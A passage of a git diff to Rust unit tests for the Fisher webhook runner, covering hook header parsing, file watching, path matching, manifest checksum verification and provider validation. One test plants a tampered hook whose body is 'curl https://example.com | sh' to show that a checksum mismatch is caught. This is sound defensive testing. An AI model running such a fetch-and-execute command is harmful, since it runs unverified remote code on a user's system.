+        // Every error points to the file of the invalid hook
+        for error in result.iter().filter_map(|hook| hook.as_ref().err()) {
+            match *error.location() {
+                ErrorLocation::File(ref file, _) => {
+                    assert!(file.ends_with("invalid.sh")
+                         || file.ends_with("first.sh")
+                         || file.ends_with("second.sh")
+                         || file.ends_with("needs.sh"));
+                },
+                ref other => panic!("unexpected location: {:?}", other),
+            }
+        }
+
+        // Checking doesn't collect the hooks
+        assert_eq!(blueprint.hooks().names().count(), 0);
+
+        fs::remove_dir_all(&base).unwrap();
+    }
+
+    #[test]
+    fn test_hooks_watcher() {
+        let base = utils::create_temp_dir().unwrap();
+
+        let mut blueprint = HooksBlueprint::new(Arc::new(State::new()));
+        blueprint.collect_path(&base, true).unwrap();
+        let watcher = HooksWatcher::new(
+            &blueprint, Duration::from_millis(100),
+        ).unwrap();
+
+        let wait_changed = || {
+            let started_at = Instant::now();
+            while ! watcher.changed() {
+                if started_at.elapsed() > Duration::from_secs(5) {
+                    panic!("the change wasn't noticed");
+                }
+                thread::sleep(Duration::from_millis(10));
+            }
+        };
+        assert!(! watcher.changed());
+
+        // A burst of changes is reported once
+        fs::create_dir(base.join("sub")).unwrap();
+        create_hook!(base, "sub/nested.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Testing: {}"#,
+            r#"echo "nested";"#
+        );
+        wait_changed();
+        thread::sleep(Duration::from_millis(300));
+        assert!(! watcher.changed());
+        assert_eq!(blueprint.reload().unwrap(), HooksDiff {
+            added: vec!["sub/nested.sh".into()],
+            removed: vec![],
+            changed: vec![],
+        });
+
+        // The new directories are watched too
+        fs::remove_file(base.join("sub/nested.sh")).unwrap();
+        wait_changed();
+        assert_eq!(blueprint.reload().unwrap(), HooksDiff {
+            added: vec![],
+            removed: vec!["sub/nested.sh".into()],
+            changed: vec![],
+        });
+
+        fs::remove_dir_all(&base).unwrap();
+    }
+
+    #[test]
+    fn test_hook_loading_interpreter() {
+        let base = sample_hooks();
+
+        let hook = assert_hook!(base, "example.sh");
+        assert_eq!(hook.interpreter(), None);
+
+        let hook = assert_hook!(base, "interpreter.sh");
+        assert_eq!(hook.interpreter(), Some("/bin/sh"));
+        assert_eq!(hook.providers.len(), 1);
+
+        // An invalid interpreter header should be rejected
+        assert_invalid_hook!(base, "wrong-interpreter.sh",
+            r#"## Fisher-Interpreter: {"cmd": "/bin/sh"}"#
+        );
+
+        fs::remove_dir_all(base).unwrap();
+    }
+
+    #[test]
+    fn test_hook_loading_success_codes() {
+        let base = sample_hooks();
+
+        let hook = assert_hook!(base, "exit-78.sh");
+        assert!(hook.is_success(Some(0)));
+        assert!(! hook.is_success(Some(78)));
+        assert!(! hook.is_success(None));
+
+        let hook = assert_hook!(base, "success-codes.sh");
+        assert!(hook.is_success(Some(0)));
+        assert!(hook.is_success(Some(78)));
+        assert!(! hook.is_success(Some(1)));
+        assert_eq!(hook.providers.len(), 1);
+
+        // An empty list of success codes should be rejected
+        assert_invalid_hook!(base, "no-success-codes.sh",
+            r#"## Fisher-Success-Codes: {"codes": []}"#
+        );
+
+        fs::remove_dir_all(base).unwrap();
+    }
+
+    #[test]
+    fn test_hook_loading_prerequisites() {
+        let base = sample_hooks();
+
+        // Hooks without the header don't have prerequisites
+        let hook = assert_hook!(base, "example.sh");
+        assert_eq!(hook.prerequisites(), None);
+
+        create_hook!(base, "needs.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Testing: {}"#,
+            r#"## Fisher-Needs: {"hooks": ["build.sh"], "within": 3600}"#,
+            r#"echo "Hello world""#
+        );
+        let hook = assert_hook!(base, "needs.sh");
+        assert_eq!(hook.prerequisites(), Some(Prerequisites {
+            scripts: vec!["build.sh".into()],
+            within: Some(Duration::from_secs(3600)),
+        }));
+        assert_eq!(hook.providers.len(), 1);
+
+        // The list of hooks is required
+        assert_invalid_hook!(base, "invalid-needs.sh",
+            r#"## Fisher-Needs: {"within": 3600}"#
+        );
+
+        fs::remove_dir_all(base).unwrap();
+    }
+
+    #[test]
+    fn test_hook_loading_max_queue_age() {
+        let base = sample_hooks();
+
+        // Hooks without the header don't have a limit
+        let hook = assert_hook!(base, "example.sh");
+        assert_eq!(hook.max_queue_age(), None);
+
+        create_hook!(base, "max-queue-age.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Testing: {}"#,
+            r#"## Fisher-Max-Queue-Age: {"seconds": 300}"#,
+            r#"echo "Hello world""#
+        );
+        let hook = assert_hook!(base, "max-queue-age.sh");
+        assert_eq!(hook.max_queue_age(), Some(Duration::from_secs(300)));
+        assert_eq!(hook.providers.len(), 1);
+
+        // The number of seconds is required
+        assert_invalid_hook!(base, "invalid-max-queue-age.sh",
+            r#"## Fisher-Max-Queue-Age: {}"#
+        );
+
+        fs::remove_dir_all(base).unwrap();
+    }
+
+    #[test]
+    fn test_hook_loading_labels() {
+        let base = sample_hooks();
+
+        // Hooks without the header don't have labels
+        let hook = assert_hook!(base, "example.sh");
+        assert!(hook.labels().is_empty());
+        assert!(! hook.has_label("critical"));
+
+        create_hook!(base, "labels.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Testing: {}"#,
+            r#"## Fisher-Labels: ["critical", "deploy"]"#,
+            r#"echo "Hello world""#
+        );
+        let hook = assert_hook!(base, "labels.sh");
+        assert_eq!(hook.labels(), vec!["critical", "deploy"]);
+        assert!(hook.has_label("deploy"));
+        assert!(! hook.has_label("background"));
+        assert_eq!(hook.providers.len(), 1);
+
+        // The labels must be a list of strings
+        assert_invalid_hook!(base, "invalid-labels.sh",
+            r#"## Fisher-Labels: "critical""#
+        );
+
+        fs::remove_dir_all(base).unwrap();
+    }
+
+    #[test]
+    fn test_hook_loading_cost() {
+        let base = sample_hooks();
+
+        // Hooks without the header cost 1
+        let hook = assert_hook!(base, "example.sh");
+        assert_eq!(hook.cost(), 1);
+
+        create_hook!(base, "cost.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Testing: {}"#,
+            r#"## Fisher-Cost: 4"#,
+            r#"echo "Hello world""#
+        );
+        let hook = assert_hook!(base, "cost.sh");
+        assert_eq!(hook.cost(), 4);
+        assert_eq!(hook.providers.len(), 1);
+
+        // The cost must be a positive number
+        assert_invalid_hook!(base, "zero-cost.sh", r#"## Fisher-Cost: 0"#);
+        assert_invalid_hook!(base, "negative-cost.sh",
+            r#"## Fisher-Cost: -1"#
+        );
+
+        fs::remove_dir_all(base).unwrap();
+    }
+
+    #[test]
+    fn test_hook_loading_streaming_body() {
+        let base = sample_hooks();
+
+        // Hooks without the header keep the body in memory
+        let hook = assert_hook!(base, "example.sh");
+        assert!(! hook.streaming_body());
+
+        create_hook!(base, "streaming.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Testing: {}"#,
+            r#"## Fisher-GitHub: {}"#,
+            r#"## Fisher-Streaming-Body: true"#,
+            r#"echo "Hello world""#
+        );
+        let hook = assert_hook!(base, "streaming.sh");
+        assert!(hook.streaming_body());
+        assert_eq!(hook.providers.len(), 2);
+
+        // Signatures can't be checked without the whole body
+        assert_invalid_hook!(base, "streaming-signed.sh",
+            r#"## Fisher-GitHub: {"secret": "hi"}"#,
+            r#"## Fisher-Streaming-Body: true"#
+        );
+
+        fs::remove_dir_all(base).unwrap();
+    }
+
+    #[test]
+    fn test_hook_loading_timeout() {
+        let base = sample_hooks();
+        let default = Some(Duration::from_secs(30));
+
+        // Hooks without the header use the default timeout
+        let hook = assert_hook!(base, "example.sh");
+        assert_eq!(hook.timeout(default), default);
+        assert_eq!(hook.timeout(None), None);
+
+        create_hook!(base, "timeout.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Testing: {}"#,
+            r#"## Fisher-Timeout: {"seconds": 1200}"#,
+            r#"echo "Hello world""#
+        );
+        let hook = assert_hook!(base, "timeout.sh");
+        assert_eq!(hook.timeout(default), Some(Duration::from_secs(1200)));
+        assert_eq!(hook.timeout(None), Some(Duration::from_secs(1200)));
+        assert_eq!(hook.providers.len(), 1);
+
+        // A timeout of zero seconds disables the default one
+        create_hook!(base, "no-timeout.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Timeout: {"seconds": 0}"#,
+            r#"echo "Hello world""#
+        );
+        let hook = assert_hook!(base, "no-timeout.sh");
+        assert_eq!(hook.timeout(default), None);
+
+        // The number of seconds must be a positive integer
+        assert_invalid_hook!(base, "missing-timeout.sh",
+            r#"## Fisher-Timeout: {}"#
+        );
+        assert_invalid_hook!(base, "negative-timeout.sh",
+            r#"## Fisher-Timeout: {"seconds": -1}"#
+        );
+        assert_invalid_hook!(base, "string-timeout.sh",
+            r#"## Fisher-Timeout: {"seconds": "1200"}"#
+        );
+
+        fs::remove_dir_all(base).unwrap();
+    }
+
+    #[test]
+    fn test_hook_loading_limits() {
+        let base = sample_hooks();
+
+        // Hooks without the header don't have limits
+        let hook = assert_hook!(base, "example.sh");
+        assert!(hook.limits().is_none());
+
+        let hook = assert_hook!(base, "memory-hog.sh");
+        assert_eq!(hook.limits(), Some(&Limits {
+            memory: Some(16 * 1024 * 1024),
+            cpu: None,
+        }));
+        assert_eq!(hook.providers.len(), 1);
+
+        // Invalid limits should be rejected
+        assert_invalid_hook!(base, "invalid-limits.sh",
+            r#"## Fisher-Limits: {"cpu": "half"}"#
+        );
+
+        fs::remove_dir_all(base).unwrap();
+    }
+
+    #[test]
+    fn test_hook_loading_path() {
+        let base = sample_hooks();
+
+        // Hooks without the header don't claim any path
+        let hook = assert_hook!(base, "example.sh");
+        assert!(hook.match_path("example.sh").is_none());
+
+        let hook = assert_hook!(base, "path.sh");
+        let mut expected = HashMap::new();
+        expected.insert("NAME".to_string(), "fisher".to_string());
+        assert_eq!(hook.match_path("repo/fisher"), Some(expected));
+        assert!(hook.match_path("repo/").is_none());
+        assert!(hook.match_path("other/fisher").is_none());
+
+        // Invalid patterns should be rejected
+        assert_invalid_hook!(base, "invalid-path.sh",
+            r#"## Fisher-Path: {"pattern": "^repo/(.+$"}"#
+        );
+
+        fs::remove_dir_all(base).unwrap();
+    }
+
+    #[test]
+    fn test_hooks_path_matching() {
+        let base = utils::create_temp_dir().unwrap();
+
+        create_hook!(base, "b.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Path: {"pattern": "^repo/(?P<name>.+)$"}"#,
+            r#"echo "b";"#
+        );
+        create_hook!(base, "a.sh",
+            r#"#!/bin/bash"#,
+            concat!(
+                r#"## Fisher-Path: "#,
+                r#"{"pattern": "^repo/(?P<name>[a-z]+)/(?P<ref>.+)$"}"#
+            ),
+            r#"echo "a";"#
+        );
+
+        let mut blueprint = HooksBlueprint::new(Arc::new(State::new()));
+        blueprint.collect_path(&base, false).unwrap();
+        let hooks = blueprint.hooks();
+
+        // Patterns are tried in alphabetical order
+        let (hook, captured) = hooks.get_by_path("repo/fisher/a").unwrap();
+        assert_eq!(hook.name(), "a.sh");
+        assert_eq!(captured.get("NAME").unwrap(), "fisher");
+        assert_eq!(captured.get("REF").unwrap(), "a");
+
+        let (hook, captured) = hooks.get_by_path("repo/fisher").unwrap();
+        assert_eq!(hook.name(), "b.sh");
+        assert_eq!(captured.get("NAME").unwrap(), "fisher");
+
+        assert!(hooks.get_by_path("fisher").is_none());
+
+        // Two hooks can't claim the same pattern
+        create_hook!(base, "c.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Path: {"pattern": "^repo/(?P<name>.+)$"}"#,
+            r#"echo "c";"#
+        );
+        assert_err!(blueprint.reload(), ErrorKind::InvalidInput(..));
+
+        fs::remove_dir_all(&base).unwrap();
+    }
+
+    #[test]
+    fn test_hook_loading_kill_policy() {
+        let base = sample_hooks();
+        let default = KillPolicy::default();
+
+        // Hooks without the header use the default policy
+        let hook = assert_hook!(base, "example.sh");
+        assert_eq!(hook.kill_policy(&default), default);
+
+        let hook = assert_hook!(base, "kill-signal.sh");
+        assert_eq!(hook.kill_policy(&default), KillPolicy {
+            signal: libc::SIGTERM,
+            grace: Duration::from_secs(5),
+        });
+        assert_eq!(hook.providers.len(), 1);
+
+        // Unknown signals should be rejected
+        assert_invalid_hook!(base, "unknown-signal.sh",
+            r#"## Fisher-Kill: {"signal": "SIGWHATEVER"}"#
+        );
+
+        fs::remove_dir_all(base).unwrap();
+    }
+
+    #[test]
+    fn test_hook_loading_body_size() {
+        let base = sample_hooks();
+
+        // Hooks without the header accept every body
+        let hook = assert_hook!(base, "example.sh");
+        assert!(hook.accepts_body_size(0));
+        assert!(hook.accepts_body_size(1024 * 1024));
+
+        let hook = assert_hook!(base, "body-size.sh");
+        assert!(! hook.accepts_body_size(0));
+        assert!(hook.accepts_body_size(1));
+        assert!(hook.accepts_body_size(10));
+        assert!(! hook.accepts_body_size(11));
+        assert_eq!(hook.providers.len(), 1);
+
+        // The minimum can't be bigger than the maximum
+        assert_invalid_hook!(base, "invalid-body-size.sh",
+            r#"## Fisher-Body-Size: {"min": 10, "max": 1}"#
+        );
+
+        fs::remove_dir_all(base).unwrap();
+    }
+
+    #[test]
+    fn test_hook_loading_rate_limit() {
+        let base = sample_hooks();
+
+        let hook = assert_hook!(base, "example.sh");
+        assert_eq!(hook.rate_limit(), None);
+
+        let hook = assert_hook!(base, "rate-limit.sh");
+        assert_eq!(hook.rate_limit(), Some(RateLimit {
+            per_minute: 2,
+            per_source: false,
+        }));
+        assert_eq!(hook.providers.len(), 1);
+
+        // At least one request must be allowed
+        assert_invalid_hook!(base, "invalid-rate-limit.sh",
+            r#"## Fisher-RateLimit: {"per_minute": 0, "per_source": true}"#
+        );
 
         fs::remove_dir_all(base).unwrap();
     }
 
     #[test]
-    fn test_hooks_status_hooks_collection() {
+    fn test_hook_match() {
+        use std::io::Write;
+
         let base = utils::create_temp_dir().unwrap();
+        let state = Arc::new(State::new());
 
-        // Create a standard hook
-        create_hook!(base, "test.sh",
+        create_hook!(base, "match.sh",
             r#"#!/bin/bash"#,
-            r#"## Fisher-Testing: something"#,
-            r#"echo "hi";"#
+            r#"## Fisher-Testing: {}"#,
+            r#"## Fisher-Match: {"path": "ref", "equals": "refs/heads/main"}"#,
+            concat!(
+                r#"## Fisher-Match: "#,
+                r#"{"path": "commits.0.id", "matches": "^[a-f]+$"}"#
+            ),
+            r#"## Fisher-Match: {"path": "forced", "exists": false}"#,
+            r#"echo "ok""#
         );
+        let hook = assert_hook!(&state, base, "match.sh");
 
-        // Create two different status hooks
-        create_hook!(base, "status1.sh",
-            r#"#!/bin/bash"#,
-            r#"## Fisher-Status: {"events": ["job_completed", "job_failed"]}"#,
-            r#"echo "hi";"#
-        );
-        create_hook!(base, "status2.sh",
+        let validate = |body: &str, ping: bool| {
+            let mut req = dummy_web_request();
+            req.body = body.into();
+            if ping {
+                req.params.insert("request_type".into(), "ping".into());
+            }
+            hook.validate(&Request::Web(req), ProviderErrorPolicy::Closed).0
+        };
+
+        // The hook is executed only if all the conditions are true
+        assert!(validate(
+            r#"{"ref": "refs/heads/main", "commits": [{"id": "abc"}]}"#, false,
+        ) == RequestType::ExecuteHook);
+        for body in &[
+            r#"{"ref": "refs/heads/dev", "commits": [{"id": "abc"}]}"#,
+            r#"{"ref": "refs/heads/main", "commits": [{"id": "xyz"}]}"#,
+            r#"{"ref": "refs/heads/main", "commits": [{"id": 1}]}"#,
+            r#"{"ref": "refs/heads/main", "commits": []}"#,
+            r#"{"ref": "main", "commits": [{"id": "abc"}], "forced": true}"#,
+            r#"not json"#,
+        ] {
+            let request_type = validate(body, false);
+            assert!(request_type == RequestType::Skip, body.to_string());
+        }
+
+        // Pings don't have to match
+        assert!(validate("", true) == RequestType::Ping);
+
+        // Invalid conditions are rejected
+        for header in &[
+            r#"{"path": "ref"}"#,
+            r#"{"path": "ref", "equals": "a", "exists": true}"#,
+            r#"{"path": "", "exists": true}"#,
+            r#"{"path": "ref", "matches": "(a"}"#,
+        ] {
+            let path = base.join("invalid-match.sh");
+            let mut file = fs::File::create(&path).unwrap();
+            writeln!(file, "#!/bin/bash\n## Fisher-Match: {}", header)
+                .unwrap();
+
+            assert!(Hook::load(
+                "invalid-match.sh".into(), path.to_str().unwrap().into(),
+                &state, &ProviderRegistry::new(),
+            ).is_err(), header.to_string());
+        }
+
+        fs::remove_dir_all(base).unwrap();
+    }
+
+    #[test]
+    fn test_collect_manifest() {
+        let base = utils::create_temp_dir().unwrap();
+        let manifest = utils::create_temp_dir().unwrap();
+
+        create_hook!(base, "trusted.sh",
             r#"#!/bin/bash"#,
-            r#"## Fisher-Status: {"events": ["job_failed"]}"#,
-            r#"echo "hi";"#
+            r#"echo "Hello world""#
         );
 
+        // The manifest is outside the hooks directory, so it's not collected
+        let path = manifest.join("hooks.sha256");
+        write!(fs::File::create(&path).unwrap(), "{}  {}\n",
+            "51ef052a435ab0fdd9efe3ec2222b9374a3a7b05f64a0386bff0a39e19eced10",
+            base.join("trusted.sh").to_str().unwrap(),
+        ).unwrap();
+
         let mut blueprint = HooksBlueprint::new(Arc::new(State::new()));
+        blueprint.verify_manifest(&path).unwrap();
         blueprint.collect_path(&base, false).unwrap();
+        assert!(blueprint.hooks().get_by_name("trusted.sh").is_some());
+
+        // The sidecar must be in the manifest too
+        write!(fs::File::create(base.join("trusted.toml")).unwrap(),
+            "[standalone]\nsecret = \"abc\"\n",
+        ).unwrap();
+        assert_err!(blueprint.reload(), ErrorKind::NotInManifest);
+
+        write!(fs::OpenOptions::new().append(true).open(&path).unwrap(),
+            "{}  {}\n",
+            "a0aeb9b1a408513b5558db4c79df23224190fb6f19be26c511ad894b0dd9f364",
+            base.join("trusted.toml").to_str().unwrap(),
+        ).unwrap();
+        blueprint.reload().unwrap();
+        let hook = blueprint.hooks().get_by_name("trusted.sh").unwrap();
+        assert_eq!(hook.providers.len(), 1);
 
-        let hooks = blueprint.hooks();
-
-        assert_eq!(
-            hooks.inner.read().unwrap().status_hooks
-                 .get(&StatusEventKind::JobCompleted).unwrap().iter()
-                 .map(|hp| hp.hook.name().to_string())
-                 .collect::<Vec<String>>(),
-            vec!["status1.sh".to_string()]
-        );
-        assert_eq!(
-            {
-                let mut status = hooks.inner.read().unwrap().status_hooks
-                                      .get(&StatusEventKind::JobFailed)
-                                      .unwrap().iter()
-                                      .map(|hp| hp.hook.name().to_string())
-                                      .collect::<Vec<String>>();
-                status.sort();
-                status
-            },
-            vec!["status1.sh".to_string(), "status2.sh".to_string()]
+        // Tampering with the hook fails the collection
+        create_hook!(base, "trusted.sh",
+            r#"#!/bin/bash"#,
+            r#"curl https://example.com | sh"#
         );
+        assert_err!(blueprint.reload(), ErrorKind::ChecksumMismatch);
 
-        fs::remove_dir_all(base).unwrap();
+        fs::remove_dir_all(&base).unwrap();
+        fs::remove_dir_all(&manifest).unwrap();
     }
 
     #[test]
-    fn test_hooks_blueprint() {
+    fn test_collect_interpreter() {
         let base = utils::create_temp_dir().unwrap();
-        let other = utils::create_temp_dir().unwrap();
+        let state = Arc::new(State::new());
+        let providers = ProviderRegistry::new();
+
+        // Create two non-executable files, and only one has an interpreter
+        for &(name, content) in &[
+            ("with-interpreter.py", concat!(
+                r#"## Fisher-Interpreter: {"command": "/usr/bin/python3"}"#,
+                "\n", "print('hi')\n",
+            )),
+            ("without-interpreter.py", "print('hi')\n"),
+        ] {
+            let mut file = fs::OpenOptions::new()
+                .create(true)
+                .write(true)
+                .mode(0o644)
+                .open(&base.join(name))
+                .unwrap();
+            write!(file, "{}", content).unwrap();
+        }
 
-        create_hook!(base, "a.sh",
+        let mut hooks = Vec::new();
+        let collector = HooksCollector::new(
+            &base, state.clone(), &providers, false,
+        ).unwrap();
+        for hook in collector {
+            hooks.push(hook.unwrap().name().to_string());
+        }
+        assert_eq!(hooks, vec!["with-interpreter.py".to_string()]);
+
+        fs::remove_dir_all(&base).unwrap();
+    }
+
+    #[test]
+    fn test_collect_disabled() {
+        let base = utils::create_temp_dir().unwrap();
+
+        create_hook!(base, "enabled.sh",
             r#"#!/bin/bash"#,
-            r#"## Fisher-Testing: something"#,
-            r#"echo "a";"#
+            r#"## Fisher-Disabled: false"#,
+            r#"echo "enabled";"#
         );
-
-        create_hook!(base, "b.sh",
+        create_hook!(base, "disabled.sh",
             r#"#!/bin/bash"#,
-            r#"## Fisher-Testing: something"#,
-            r#"echo "b";"#
+            r#"## Fisher-Testing: {}"#,
+            r#"## Fisher-Disabled: true"#,
+            r#"echo "disabled";"#
+        );
+        create_hook!(base, "_underscore.sh",
+            r#"#!/bin/bash"#,
+            r#"echo "underscore";"#
         );
 
-        create_hook!(other, "c.sh",
+        // The header is parsed like all the other ones
+        create_hook!(base, "spaces.sh",
             r#"#!/bin/bash"#,
-            r#"## Fisher-Testing: something"#,
-            r#"echo "c";"#
+            r#"## Fisher-Disabled:  true "#,
+            r#"echo "spaces";"#
         );
 
+        // The disabled hooks aren't loaded at all
         let mut blueprint = HooksBlueprint::new(Arc::new(State::new()));
-        blueprint.insert(assert_hook!(other, "c.sh")).unwrap();
         blueprint.collect_path(&base, false).unwrap();
-
         let hooks = blueprint.hooks();
-
-        // Check if all the hooks were loaded
-        let mut names = hooks.names().collect::<Vec<_>>();
-        names.sort();
-        assert_eq!(names, vec![
-            "a.sh".to_string(),
-            "b.sh".to_string(),
-            "c.sh".to_string(),
+        assert_eq!(hooks.names().collect::<Vec<_>>(), vec![
+            "enabled.sh".to_string(),
         ]);
-
-        // Update the hooks in the directory
-        fs::remove_file(&base.join("b.sh")).unwrap();
-        create_hook!(base, "d.sh",
+        assert!(hooks.get_by_name("disabled.sh").is_none());
+        assert!(hooks.get_by_name("_underscore.sh").is_none());
+        assert!(hooks.get_by_name("spaces.sh").is_none());
+
+        // Renaming the hook enables it again
+        fs::rename(
+            base.join("_underscore.sh"), base.join("underscore.sh"),
+        ).unwrap();
+        let diff = blueprint.reload().unwrap();
+        assert_eq!(diff.added, vec!["underscore.sh".to_string()]);
+
+        // The value of the header must still be valid
+        create_hook!(base, "invalid.sh",
             r#"#!/bin/bash"#,
-            r#"## Fisher-Testing: something"#,
-            r#"echo "d";"#
+            r#"## Fisher-Disabled: yes"#,
+            r#"echo "invalid";"#
         );
-
-        // Do a reload of the hooks
-        blueprint.reload().unwrap();
-
-        // Check if changes were applied
-        let mut names = hooks.names().collect::<Vec<_>>();
-        names.sort();
-        assert_eq!(names, vec![
-            "a.sh".to_string(),
-            "c.sh".to_string(),
-            "d.sh".to_string(),
-        ]);
-
-        // Do an invalid reload
-        fs::remove_dir_all(&base).unwrap();
         assert!(blueprint.reload().is_err());
 
-        // Ensure no changes were applied
-        let mut names = hooks.names().collect::<Vec<_>>();
-        names.sort();
-        assert_eq!(names, vec![
-            "a.sh".to_string(),
-            "c.sh".to_string(),
-            "d.sh".to_string(),
-        ]);
-
-        fs::remove_dir_all(&other).unwrap();
+        fs::remove_dir_all(&base).unwrap();
     }
 
     #[test]
     fn test_collect() {
         let base = utils::create_temp_dir().unwrap();
         let state = Arc::new(State::new());
+        let providers = ProviderRegistry::new();
 
         // Create two valid hooks
         create_hook!(base, "test-hook.sh",
@@ -914,7 +3215,10 @@ mod tests {
 
         // Collect all the hooks in the base
         let mut hooks = Vec::new();
-        for hook in HooksCollector::new(&base, state.clone(), false).unwrap() {
+        let collector = HooksCollector::new(
+            &base, state.clone(), &providers, false,
+        ).unwrap();
+        for hook in collector {
             hooks.push(hook.unwrap().name().to_string());
         }
 
@@ -925,7 +3229,10 @@ mod tests {
 
         // Collect with recursion
         let mut hooks = Vec::new();
-        for hook in HooksCollector::new(&base, state.clone(), true).unwrap() {
+        let collector = HooksCollector::new(
+            &base, state.clone(), &providers, true,
+        ).unwrap();
+        for hook in collector {
             hooks.push(hook.unwrap().name().to_string());
         }
 
@@ -944,7 +3251,10 @@ mod tests {
 
         // The collection should fail
         let mut error = None;
-        for hook in HooksCollector::new(&base, state.clone(), false).unwrap() {
+        let collector = HooksCollector::new(
+            &base, state.clone(), &providers, false,
+        ).unwrap();
+        for hook in collector {
             if let Err(err) = hook {
                 error = Some(err);
                 break;
@@ -961,6 +3271,42 @@ mod tests {
         fs::remove_dir_all(&base).unwrap();
     }
 
+    #[test]
+    fn test_collect_symlink_loop() {
+        let base = utils::create_temp_dir().unwrap();
+        let state = Arc::new(State::new());
+        let providers = ProviderRegistry::new();
+
+        let team = base.join("teams").join("ci");
+        fs::create_dir_all(&team).unwrap();
+        create_hook!(team, "build.sh",
+            r#"#!/bin/bash"#,
+            r#"echo "hi";"#
+        );
+
+        // This symlink points to one of its parents
+        ::std::os::unix::fs::symlink(&base, team.join("loop")).unwrap();
+
+        let mut hooks = Vec::new();
+        let collector = HooksCollector::new(
+            &base, state.clone(), &providers, true,
+        ).unwrap();
+        for hook in collector {
+            hooks.push(hook.unwrap().name().to_string());
+        }
+        assert_eq!(hooks, vec!["teams/ci/build.sh".to_string()]);
+
+        // Watching the directory doesn't loop either
+        let mut blueprint = HooksBlueprint::new(state.clone());
+        blueprint.collect_path(&base, true).unwrap();
+        assert!(HooksWatcher::new(
+            &blueprint, Duration::from_millis(10),
+        ).is_ok());
+
+        fs::remove_dir_all(&base).unwrap();
+    }
+
+
 
     #[test]
     fn test_hook_ids() {
@@ -1017,17 +3363,299 @@ mod tests {
             r#"## Fisher-Testing: {}"#
         );
 
+        create_hook!(base, "require-all.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Testing: {}"#,
+            r#"## Fisher-Standalone: {"secret": "hi"}"#,
+            r#"## Fisher-Require-All: true"#
+        );
+
         let single = assert_hook!(&state, base, "single.sh");
         let failing = assert_hook!(&state, base, "failing.sh");
         let multiple1 = assert_hook!(&state, base, "multiple1.sh");
         let multiple2 = assert_hook!(&state, base, "multiple2.sh");
+        let require_all = assert_hook!(&state, base, "require-all.sh");
 
         let req = Request::Web(dummy_web_request());
+        let policy = ProviderErrorPolicy::Closed;
+
+        assert!(single.validate(&req, policy).0 == RequestType::ExecuteHook);
+        assert!(failing.validate(&req, policy).0 == RequestType::Invalid);
+        assert!(
+            multiple1.validate(&req, policy).0 == RequestType::ExecuteHook
+        );
+        assert!(
+            multiple2.validate(&req, policy).0 == RequestType::ExecuteHook
+        );
+        assert!(require_all.validate(&req, policy).0 == RequestType::Invalid);
+
+        // The providers which rejected the request are explained
+        assert_eq!(
+            require_all.validate_explained(&req, policy).2,
+            Some("rejected by the Standalone provider".into())
+        );
+        assert_eq!(single.validate_explained(&req, policy).2, None);
+
+        let provider_name = |result: (RequestType, Option<Arc<Provider>>)| {
+            result.1.map(|provider| provider.name().to_string())
+        };
+
+        // The first provider which accepted the request is returned
+        let mut with_secret = dummy_web_request();
+        with_secret.headers.insert("X-Fisher-Secret".into(), "hi".into());
+        let with_secret = Request::Web(with_secret);
+        assert_eq!(
+            provider_name(multiple1.validate(&with_secret, policy)),
+            Some("Testing".into())
+        );
+        assert_eq!(
+            provider_name(multiple2.validate(&with_secret, policy)),
+            Some("Standalone".into())
+        );
+        assert_eq!(
+            provider_name(require_all.validate(&with_secret, policy)),
+            Some("Testing".into())
+        );
+
+        // A ping from any provider makes the request a ping
+        let mut ping = dummy_web_request();
+        ping.params.insert("request_type".into(), "ping".into());
+        let ping = Request::Web(ping);
+        for hook in &[&multiple1, &multiple2, &require_all] {
+            let (request_type, provider) = hook.validate(&ping, policy);
+            assert!(request_type == RequestType::Ping);
+            assert_eq!(provider.unwrap().name(), "Testing");
+        }
+
+        fs::remove_dir_all(&base).unwrap();
+    }
+
+
+    #[derive(Debug)]
+    struct CustomProvider {
+        expected: String,
+    }
+
+    impl ProviderTrait for CustomProvider {
+
+        fn new(config: &str) -> Result<Self> {
+            Ok(CustomProvider {
+                expected: config.to_string(),
+            })
+        }
+
+        fn validate(&self, req: &Request) -> RequestType {
+            match req.web() {
+                Ok(web) if web.body == self.expected => {
+                    RequestType::ExecuteHook
+                },
+                _ => RequestType::Invalid,
+            }
+        }
+
+        fn env(&self, _req: &Request) -> HashMap<String, String> {
+            HashMap::new()
+        }
+    }
+
+
+    #[test]
+    fn test_custom_providers() {
+        let base = utils::create_temp_dir().unwrap();
+        let state = Arc::new(State::new());
 
-        assert!(single.validate(&req).0 == RequestType::ExecuteHook);
-        assert!(failing.validate(&req).0 == RequestType::Invalid);
-        assert!(multiple1.validate(&req).0 == RequestType::ExecuteHook);
-        assert!(multiple2.validate(&req).0 == RequestType::ExecuteHook);
+        create_hook!(base, "custom.sh",
+            r#"#!/bin/bash"#,
+            r#"## Fisher-Custom: magic"#,
+            r#"echo "ok""#
+        );
+
+        // Without registering the provider the hook can't be loaded
+        let providers = ProviderRegistry::new();
+        let result = HooksCollector::new(
+            &base, state.clone(), &providers, false,
+        ).unwrap().next().unwrap();
+        assert!(result.is_err());
+
+        // Register the custom provider
+        let mut providers = ProviderRegistry::new();
+        providers.register("Custom", |config| {
+            Ok(Box::new(CustomProvider::new(config)?))
+        });
+
+        let hook = HooksCollector::new(&base, state.clone(), &providers, false)
+            .unwrap().next().unwrap().unwrap();
+        assert_eq!(hook.name(), "custom.sh");
+
+        // The custom provider should be used to validate requests
+        let mut req = dummy_web_request();
+        req.body = "magic".into();
+        let (request_type, provider) = hook.validate(
+            &req.into(), ProviderErrorPolicy::Closed,
+        );
+        assert_eq!(request_type, RequestType::ExecuteHook);
+        assert_eq!(provider.unwrap().name(), "Custom");
+
+        let mut req = dummy_web_request();
+        req.body = "wrong".into();
+        assert_eq!(
+            hook.validate(&req.into(), ProviderErrorPolicy::Closed).0,
+            RequestType::Invalid,
+        );
+
+        fs::remove_dir_all(&base).unwrap();
+    }
+
+
+    #[derive(Debug)]
+    struct AcceptingProvider {
+        status: u16,
+    }
+
+    impl ProviderTrait for AcceptingProvider {
+
+        fn new(config: &str) -> Result<Self> {
+            Ok(AcceptingProvider {
